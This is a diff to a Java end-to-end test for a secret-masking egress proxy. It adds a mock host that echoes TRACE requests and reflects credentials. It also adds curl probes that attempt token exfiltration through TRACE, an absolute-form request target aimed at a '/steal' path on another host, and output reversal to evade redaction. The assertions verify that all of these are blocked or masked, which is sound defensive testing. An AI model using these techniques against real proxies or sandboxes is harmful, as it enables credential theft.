@@ -23,6 +23,7 @@ import io.trimus.testing.ServiceProcess;
 import io.trimus.testing.TestImages;
 import io.trimus.testing.TrimusInfraResource;
 import io.vertx.core.Vertx;
+import io.vertx.core.http.HttpMethod;
 import io.vertx.core.http.HttpServer;
 import io.vertx.core.http.HttpServerOptions;
 import io.vertx.core.http.HttpServerRequest;
@@ -67,6 +68,8 @@ import static org.awaitility.Awaitility.await;
 class MaskedSecretsEndToEndTest {
     private static final String SCOPED = "api.masked.trimus.test";
     private static final String UNSCOPED = "plain.masked.trimus.test";
+    /** A name an absolute-form target inside the scoped host's TLS points at: never on any list. */
+    private static final String ELSEWHERE = "elsewhere.masked.trimus.test";
     private static final String OUTSIDE = EgressNetworkResource.OUTSIDE_GATEWAY;
     private static final String PROXY = "http://" + EgressNetworkResource.GATEWAY + ":"
             + EgressNetworkResource.PROXY_PORT;
@@ -122,8 +125,26 @@ class MaskedSecretsEndToEndTest {
         kafka = new KafkaCompanion(ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class));
     }
 
+    /**
+     * The scoped host, as unhelpful as real ones can be: it answers TRACE with the request it received, and
+     * {@code /reflect} with the credential it got, in a header and in a chunked body that cuts it in two.
+     */
     private static void scoped(HttpServerRequest request) {
-        received.add(request.path() + " " + authorization(request));
+        received.add(request.uri() + " " + authorization(request));
+        if (request.method() == HttpMethod.TRACE) {
+            StringBuilder echo = new StringBuilder("TRACE " + request.uri() + " HTTP/1.1\r\n");
+            request.headers().forEach(h -> echo.append(h.getKey()).append(": ").append(h.getValue()).append("\r\n"));
+            request.response().putHeader("content-type", "message/http").end(echo.toString());
+            return;
+        }
+        if (request.path().equals("/reflect")) {
+            String credential = authorization(request);
+            int half = credential.length() / 2 + 2;
+            request.response().setChunked(true).putHeader("X-Echo", credential)
+                    .write("echo=" + credential.substring(0, half));
+            vertx.setTimer(100, t -> request.response().end(credential.substring(half) + "\n"));
+            return;
+        }
         if (request.path().equals("/stream")) {
             request.response().setChunked(true).putHeader("content-type", "text/event-stream").write("data: first\n\n");
             vertx.setTimer(300, t -> request.response().end("data: second\n\n"));
@@ -177,6 +198,18 @@ class MaskedSecretsEndToEndTest {
                 // s_client repeats the verify line for each TLS 1.3 session ticket that arrives in time: count one
                 + "echo \"openssl=$(echo | openssl s_client -connect " + SCOPED + ":443 -servername " + SCOPED
                 + " -verify_return_error 2>&1 | grep -m1 -c 'Verify return code: 0')\"; "
+                // a host that echoes: TRACE, an absolute-form target naming another authority, a reflected credential
+                + "echo \"trace=$(curl -s -o /tmp/trace -w '%{http_code}' --max-time 10 --noproxy '*' -X TRACE https://"
+                + SCOPED + "/trace -H \"Authorization: Bearer $GH_TOKEN\")\"; "
+                + curl + "'absolute=%{http_code}\\n' --noproxy '*' --request-target https://" + ELSEWHERE + "/steal"
+                + " https://" + SCOPED + "/ -H \"Authorization: Bearer $GH_TOKEN\"; "
+                + "curl -s -D /tmp/reflect.head -o /tmp/reflect.body --max-time 10 --noproxy '*' https://" + SCOPED
+                + "/reflect -H \"Authorization: Bearer $GH_TOKEN\"; "
+                + "echo \"reflect_header=$(grep -i '^x-echo' /tmp/reflect.head | tr -d '\\r')\"; "
+                + "echo \"reflect_body=$(cat /tmp/reflect.body)\"; "
+                // reversed, what came back escapes the output's redaction: the real value must not be in it either way
+                + "echo \"echoes_reversed=$(cat /tmp/trace /tmp/reflect.head /tmp/reflect.body 2>/dev/null | rev"
+                + " | tr -d '\\n\\r')\"; "
                 // egress-service restarts now; the test says go once it has
                 + "i=0; until [ \"$(curl -s --max-time 5 --noproxy '*' http://" + UNSCOPED + "/phase)\" = go ]"
                 + " || [ $i -ge 90 ]; do i=$((i+1)); sleep 1; done; "
@@ -200,11 +233,17 @@ class MaskedSecretsEndToEndTest {
                         "token=[MASKED:" + SECRET + "]", "steered=200", "explicit=200", "own=200", "leak=403",
                         "stream=data: firstdata: second", "openssl=1")
                 .contains("ca=/etc/trimus/ca-bundle.pem /etc/trimus/ca-bundle.pem /etc/trimus/egress-ca.pem")
-                .doesNotContain(REAL_PART).doesNotContain("after_tries=30");
+                .contains("trace=405", "absolute=403", "reflect_body=echo=Bearer [MASKED:" + SECRET + "]")
+                .containsIgnoringCase("reflect_header=X-Echo: Bearer [MASKED:" + SECRET + "]")
+                .doesNotContain(REAL_PART).doesNotContain(new StringBuilder(REAL_PART).reverse())
+                .doesNotContain("after_tries=30");
         String basic = Base64.getEncoder().encodeToString(("x-access-token:" + REAL).getBytes(StandardCharsets.UTF_8));
         assertThat(received).contains("/steered Bearer " + REAL, "/basic Basic " + basic, "/own <none>",
                 "/after Bearer " + REAL);
         assertThat(received).noneMatch(r -> r.startsWith("/leak"));
+        assertThat(received).as("no TRACE, no target naming another authority reached the host")
+                .noneMatch(r -> r.startsWith("/trace") || r.startsWith("https:") || r.contains(ELSEWHERE))
+                .anyMatch(r -> r.startsWith("/reflect Bearer " + REAL));
         assertThat(received).allMatch(r -> r.endsWith("<none>") || r.contains(REAL) || r.contains(basic), "only"
                 + " real values or nothing reached the outside");
         await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(SandboxRuns.anomaly(company, UNSCOPED))
